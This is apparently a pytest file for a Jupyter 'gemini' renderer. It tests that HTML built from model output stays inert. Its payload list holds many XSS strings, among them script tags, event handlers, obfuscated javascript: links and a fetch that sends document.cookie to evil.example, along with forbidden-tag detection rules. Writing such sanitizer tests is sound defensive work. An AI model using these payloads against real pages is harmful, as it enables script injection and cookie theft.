"""Model output is untrusted: rendered HTML never carries active content, and Markdown still formats."""

from __future__ import annotations

import re
from html.parser import HTMLParser

import pytest

from gemini_magic.render.bundles import FORMATS, answer_bundle
from gemini_magic.render.code import COPY, ZOOM, code_block
from gemini_magic.render.markdown import extract_code, to_html
from tests.fake_gemini import Reply

# -- an HTML inspector ------------------------------------------------------------------

_FORBIDDEN_TAGS = {
    "script", "iframe", "frame", "frameset", "object", "embed", "applet", "style", "form", "svg", "math",
    "link", "meta", "base", "input", "textarea", "select", "video", "audio", "source", "template",
}
_SAFE_HREF = re.compile(r"^(https?:|mailto:|#)", re.IGNORECASE)
_SAFE_SRC = re.compile(r"^data:image/", re.IGNORECASE)


class _Elements(HTMLParser):
    """Every element, with attributes as a browser would decode them."""

    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.elements: list[tuple[str, list[tuple[str, str | None]]]] = []
        self.text: list[str] = []

    def handle_starttag(self, tag, attrs):
        self.elements.append((tag, attrs))

    def handle_startendtag(self, tag, attrs):
        self.elements.append((tag, attrs))

    def handle_data(self, data):
        self.text.append(data)


def parse(markup: str) -> _Elements:
    parser = _Elements()
    parser.feed(markup)
    parser.close()
    return parser


_OUR_HANDLERS = {("button", "onclick", COPY), ("img", "onclick", ZOOM)}


def assert_inert(markup: str) -> None:
    """No element or attribute that runs code, loads a frame, or makes the browser fetch a URL."""
    for tag, attrs in parse(markup).elements:
        assert tag not in _FORBIDDEN_TAGS, (tag, markup)
        if tag == "button":  # only our Copy button, exactly as we write it
            assert dict(attrs).get("class") == "gemini-copy" and dict(attrs).get("onclick") == COPY, markup
        for name, value in attrs:
            if name.lower().startswith("on"):
                # Only our two fixed handlers, byte for byte: never anything the model wrote.
                assert (tag, name.lower(), value) in _OUR_HANDLERS, (tag, name, markup)
            assert name.lower() not in ("srcdoc", "formaction", "xlink:href", "background", "poster"), (name, markup)
            if name.lower() == "href":
                assert value is not None and _SAFE_HREF.match(value), (tag, value, markup)
            if name.lower() == "src":
                assert tag == "img", (tag, markup)
                assert value is not None and _SAFE_SRC.match(value), (tag, value, markup)
            if name.lower() == "style":
                assert "url(" not in (value or "").lower() and "expression" not in (value or "").lower(), markup


class _CodeText(HTMLParser):
    """The text inside <code> elements only: what a reader copies."""

    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.depth, self.text = 0, []

    def handle_starttag(self, tag, attrs):
        self.depth += tag == "code"

    def handle_endtag(self, tag):
        self.depth -= tag == "code"

    def handle_data(self, data):
        if self.depth:
            self.text.append(data)


def code_text(markup: str) -> str:
    parser = _CodeText()
    parser.feed(markup)
    parser.close()
    return "".join(parser.text)


def tags(markup: str) -> list[str]:
    return [tag for tag, _ in parse(markup).elements]


def attrs_of(markup: str, tag: str) -> list[dict]:
    return [dict(attrs) for t, attrs in parse(markup).elements if t == tag]


# -- the payloads ---------------------------------------------------------------------

PAYLOADS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
    "Before <script>fetch('https://evil.example/?c='+document.cookie)</script> after",
    "<img src=x onerror=alert(1)>",
    "<img src=https://evil.example/pixel.gif>",
    '<img src="x" ONERROR="alert(1)">',
    "<img/src=x/onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<iframe src=https://evil.example></iframe>",
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<a href="javascript:alert(1)">click</a>',
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](jav&#97;script:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x]( javascript:alert(1))",
    "[x](<javascript:alert(1)>)",
    "[x](java\nscript:alert(1))",
    "[x](\tjavascript:alert(1))",
    "[x][1]\n\n[1]: javascript:alert(1)",
    "[x][1]\n\n[1]: <javascript:alert(1)> 'title'",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](data:text/html,<script>alert(1)</script>)",
    "[x](vbscript:msgbox(1))",
    "[x](file:///etc/passwd)",
    "[x](//evil.example/path)",
    "<javascript:alert(1)>",
    "<vbscript:msgbox(1)>",
    "<data:text/html,<script>alert(1)</script>>",
    "![x](javascript:alert(1))",
    "![x](https://evil.example/track.png?secret=1)",
    "![x](//evil.example/track.png)",
    "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
    "![x](data:text/html,<script>alert(1)</script>)",
    '![x" onerror="alert(1)](https://evil.example/a.png)',
    '![x](data:image/png;base64,AAAA" onerror="alert(1))',
    '[x](https://ok.example "title" onclick="alert(1)")',
    '[x](https://ok.example" onclick="alert(1))',
    "[<img src=x onerror=alert(1)>](https://ok.example)",
    "| a | b |\n|---|---|\n| <script>alert(1)</script> | <img src=x onerror=alert(1)> |",
    "| <iframe src=x> | [x](javascript:alert(1)) |\n|---|---|\n| 1 | 2 |",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "&#x3C;img src=x onerror=alert(1)&#x3E;",
    "<style>body{background:url(https://evil.example/x)}</style>",
    '<div style="background:url(https://evil.example/x)">x</div>',
    "<object data=https://evil.example/x.swf></object>",
    "<embed src=https://evil.example/x.swf>",
    "<form action=https://evil.example><input name=q><button>go</button></form>",
    '<button formaction="javascript:alert(1)">x</button>',
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<base href=https://evil.example/>",
    "<body onload=alert(1)>",
    "<div onmouseover=alert(1)>hover</div>",
    "<div OnMouseOver='alert(1)'>hover</div>",
    "<p onclick\n=alert(1)>x</p>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<math><mtext><img src=x onerror=alert(1)></mtext></math>",
    "<!--<img src=x onerror=alert(1)>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "```html\n<script>alert(1)</script>\n```",
    '```python" onmouseover="alert(1)\nprint(1)\n```',
    "`<img src=x onerror=alert(1)>`",
    "    <script>alert(1)</script>",
    "> <script>alert(1)</script>",
    "- <img src=x onerror=alert(1)>\n- [x](javascript:alert(1))",
    "# <script>alert(1)</script>",
    "$<img src=x onerror=alert(1)>$",
    "$$<script>alert(1)</script>$$",
    "$$\n<iframe src=x></iframe>\n$$",
    "**<script>alert(1)</script>**",
    "<scr<script>ipt>alert(1)</script>",
    "<a href='https://ok.example' onclick='alert(1)'>x</a>",
]


# -- to_html and every answer format stay inert ---------------------------------------------


@pytest.mark.parametrize("payload", PAYLOADS)
def test_to_html_is_inert(payload):
    assert_inert(to_html(payload))


@pytest.mark.parametrize("fmt", FORMATS)
@pytest.mark.parametrize("payload", PAYLOADS)
def test_answer_bundle_is_inert_in_every_format(payload, fmt):
    bundle = answer_bundle(payload, fmt, footer=payload, parsed={"x": 1} if fmt == "json" else None)
    assert_inert(bundle["text/html"])
    assert bundle["text/plain"].startswith(payload)  # the raw answer is kept as plain text


@pytest.mark.parametrize(
    "payload",
    ["<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "<iframe src=x>", "<svg onload=alert(1)>"],
)
def test_raw_html_is_shown_as_text(payload):
    html_out = to_html(payload)
    # Nothing the model wrote became an element; its text is displayed instead.
    assert tags(html_out) == ["p"]
    assert "".join(parse(html_out).text).strip() == payload


def test_remote_image_becomes_a_link_not_an_img():
    html_out = to_html("See ![a chart](https://example.com/chart.png)")
    assert "img" not in tags(html_out)
    links = attrs_of(html_out, "a")
    assert [link["href"] for link in links] == ["https://example.com/chart.png"]
    assert "[image: a chart]" in "".join(parse(html_out).text)


def test_inline_data_image_is_displayed():
    src = "data:image/png;base64,iVBORw0KGgo="
    html_out = to_html(f"![dot]({src})")
    [img] = attrs_of(html_out, "img")
    assert (img["src"], img["alt"], img["onclick"]) == (src, "dot", ZOOM)  # shown, and opens full size
    assert_inert(html_out)


def test_data_image_url_used_as_link_target_is_neutralized():
    html_out = to_html("[click](data:image/png;base64,iVBORw0KGgo=)")
    assert [a["href"] for a in attrs_of(html_out, "a")] == ["#"]


@pytest.mark.parametrize(
    ("markdown", "href"),
    [
        ("[site](https://example.com/a?b=1)", "https://example.com/a?b=1"),
        ("[plain](http://example.com)", "http://example.com"),
        ("[mail](mailto:someone@example.com)", "mailto:someone@example.com"),
        ("[anchor](#section-2)", "#section-2"),
        ("<https://example.com/auto>", "https://example.com/auto"),
        ("[ref][r]\n\n[r]: https://example.com/ref", "https://example.com/ref"),
    ],
)
def test_safe_links_are_kept_and_open_in_a_new_tab(markdown, href):
    links = attrs_of(to_html(markdown), "a")
    assert len(links) == 1
    assert links[0]["href"] == href
    assert links[0]["target"] == "_blank"
    assert set(links[0]["rel"].split()) >= {"noopener", "noreferrer", "nofollow"}


@pytest.mark.parametrize(
    "markdown",
    ["[x](javascript:alert(1))", "[x](JaVaScRiPt:alert(1))", "[x](jav&#97;script:alert(1))",
     "[x]( javascript:alert(1))", "[x][1]\n\n[1]: javascript:alert(1)", "<javascript:alert(1)>",
     "[x](data:text/html,hi)", "[x](vbscript:msgbox(1))"],
)
def test_unsafe_links_are_not_links_at_all(markdown):
    assert "a" not in tags(to_html(markdown))


# -- formatting still works ------------------------------------------------------------------


def test_headings_emphasis_and_lists():
    html_out = to_html("# Title\n\n## Sub\n\nSome **bold** and *italic* and ~~gone~~.\n\n- one\n- two\n\n1. first\n")
    assert tags(html_out) == ["h1", "h2", "p", "strong", "em", "s", "ul", "li", "li", "ol", "li"]
    assert " ".join("".join(parse(html_out).text).split()) == "Title Sub Some bold and italic and gone. one two first"


def test_tables_render():
    html_out = to_html("| a | b |\n|---|--:|\n| 1 | 2 |\n| 3 | 4 |")
    found = tags(html_out)
    assert found[0] == "table"
    assert found.count("th") == 2 and found.count("td") == 4 and found.count("tr") == 3


def test_fenced_code_keeps_language_and_escapes_markup():
    html_out = to_html("```python\nprint('<b>hi</b>')\n```")
    assert_inert(html_out)
    assert tags(html_out)[:4] == ["div", "button", "pre", "code"]  # the Copy button, then the code
    assert set(tags(html_out)[4:]) <= {"span"}  # highlighting: spans with inline colours only
    assert attrs_of(html_out, "code") == [{"class": "language-python"}]
    assert "&lt;b&gt;hi&lt;/b&gt;" in html_out or "&lt;b&gt;hi&lt;/b&gt;" in html_out.replace("&#39;", "'")
    assert code_text(html_out) == "print('<b>hi</b>')"
    assert 'style="color' in html_out  # highlighted


def test_inline_code_escapes_markup():
    html_out = to_html("Use `<b>` for bold.")
    assert tags(html_out) == ["p", "code"]
    assert "<code>&lt;b&gt;</code>" in html_out


@pytest.mark.parametrize(
    ("markdown", "text"),
    [
        ("Inline $x_1$ here", "Inline $x_1$ here"),
        ("Both $a^2 + b^2$ and $$c_1$$", "Both $a^2 + b^2$ and $$c_1$$"),
        ("It costs $5 and $10.", "It costs $5 and $10."),
        ("Prices: $5,$10 and $5-$10", "Prices: $5,$10 and $5-$10"),  # digits next to $ are currency
    ],
)
def test_math_and_currency_stay_as_dollar_text(markdown, text):
    html_out = to_html(markdown)
    assert tags(html_out) == ["p"]  # no <em>/<sub> from the underscores, no math markup
    assert "".join(parse(html_out).text).strip() == text


def test_code_block_helper_escapes_code_and_language():
    out = code_block("<script>x</script>", 'py"onclick="alert(1)')
    assert_inert(out)
    assert tags(out) == ["div", "button", "pre", "code"]  # unknown language: plain, not highlighted
    assert code_text(out) == "<script>x</script>"


# -- extract_code: the first fenced block, else the whole text -----------------------------


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("Here:\n```python\nx = 1\nprint(x)\n```\nDone.", ("x = 1\nprint(x)", "python")),
        ("```\nplain\n```", ("plain", "")),
        ("~~~bash\nls -l\n~~~", ("ls -l", "bash")),
        ("```c++\nint x;\n```", ("int x;", "c++")),
        ("```python title=example.py\npass\n```", ("pass", "python")),
        ("```js\nfirst()\n```\n\n```py\nsecond()\n```", ("first()", "js")),
        ("````markdown\n```py\ninner()\n```\n````", ("```py\ninner()\n```", "markdown")),
        ("\n\nno fences here\n\n", ("no fences here", "")),
        ("```python\nunclosed = True\n", ("```python\nunclosed = True", "")),
        ("```sql\nSELECT 1;\n\n\n```", ("SELECT 1;", "sql")),
    ],
)
def test_extract_code(text, expected):
    assert extract_code(text) == expected


def test_code_format_shows_the_extracted_code_escaped():
    bundle = answer_bundle("Try:\n```html\n<script>alert(1)</script>\n```", "code")
    assert_inert(bundle["text/html"])
    assert attrs_of(bundle["text/html"], "code") == [{"class": "language-html"}]
    assert code_text(bundle["text/html"]) == "<script>alert(1)</script>"


# -- end to end: a hostile answer in a real kernel ---------------------------------------


@pytest.mark.parametrize(
    "answer",
    [
        "<img src=x onerror=alert(1)>",
        "Look: <script>alert(document.cookie)</script> [x](javascript:alert(1)) ![t](https://evil.example/p.png)",
    ],
)
@pytest.mark.parametrize("options", ["", "-f text", "-f code", "--no-stream"])
def test_hostile_answer_in_kernel_is_inert(kern, server, answer, options):
    server.queue(Reply(text=answer))
    ex = kern.run(f"%%gemini {options}\nhi", check=True)
    htmls = [m["content"]["data"]["text/html"]
             for m in ex.of_type("display_data", "update_display_data") if "text/html" in m["content"]["data"]]
    assert htmls, "the answer was displayed as HTML"
    for markup in htmls:
        assert_inert(markup)
        assert "<img" not in markup and "<script" not in markup
    # The raw answer is still there, as plain text.
    finals = [m["content"]["data"] for m in ex.of_type("display_data") if "text/html" in m["content"]["data"]]
    assert finals[-1]["text/plain"] == answer


# -- our controls: the Copy button and the zoomable image ---------------------------------


@pytest.mark.parametrize("language", ["python", "html", "js", "", "no-such-language"])
def test_highlighted_code_with_hostile_content_stays_text(language):
    code = "x = '</code></pre><script>alert(1)</script>'  # <button onclick=alert(2)>"
    html_out = to_html(f"```{language}\n{code}\n```")
    assert_inert(html_out)
    assert code_text(html_out) == code
    # The Copy handler is the fixed one: the code is read from the page, never put in the script.
    [button] = attrs_of(html_out, "button")
    assert button["onclick"] == COPY and "alert" not in button["onclick"]


def test_a_button_the_model_writes_is_text():
    html_out = to_html('<button class="gemini-copy" onclick="alert(1)">Copy</button>')
    assert attrs_of(html_out, "button") == []
    assert_inert(html_out)


def test_indented_code_also_gets_a_copy_button():
    html_out = to_html("Run:\n\n    pip install gemini-magic\n")
    assert "button" in tags(html_out)
    assert code_text(html_out) == "pip install gemini-magic"


def test_single_newlines_are_line_breaks_so_a_poem_keeps_its_lines():
    html_out = to_html("Autumn moonlight\na worm digs silently\ninto the chestnut")
    assert tags(html_out).count("br") == 2
